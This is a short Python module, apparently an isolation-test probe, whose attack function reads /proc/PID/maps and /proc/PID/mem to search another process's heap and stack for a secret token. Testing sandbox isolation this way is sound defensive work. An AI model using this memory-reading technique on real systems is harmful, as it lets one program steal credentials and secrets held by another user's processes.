"""Reads a secret in the memory of another process of the same user, through /proc."""

from support.attempts import attempt


def attack(target):
    pid, token = target["sibling_pid"], target["token"]

    def read():
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for start, end in stretches(maps):
                memory.seek(start)
                if token.encode() in memory.read(end - start):
                    return f"it holds {token}"
        return None

    return attempt({"/proc/PID/mem": read})


def stretches(maps):
    """Where a process keeps what it knows: heap and stack."""
    for line in maps:
        if "[heap]" in line or "[stack]" in line:
            start, end = line.split()[0].split("-")
            yield int(start, 16), int(end, 16)
